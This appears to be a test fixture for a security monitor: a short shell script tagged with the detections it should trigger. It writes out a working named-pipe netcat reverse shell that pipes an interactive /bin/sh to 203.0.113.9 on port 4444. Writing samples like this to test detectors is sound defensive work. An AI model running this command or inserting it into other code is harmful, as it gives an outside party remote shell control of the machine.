# scenario: 10 create-a-reverse-shell
# expect: reverse_shell network.egress process.spawn_shell
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# The named-pipe netcat reverse shell for nc builds without -e.
rm -f /tmp/f; mkfifo /tmp/f
timeout 3 sh -c 'cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f'
echo "ended"
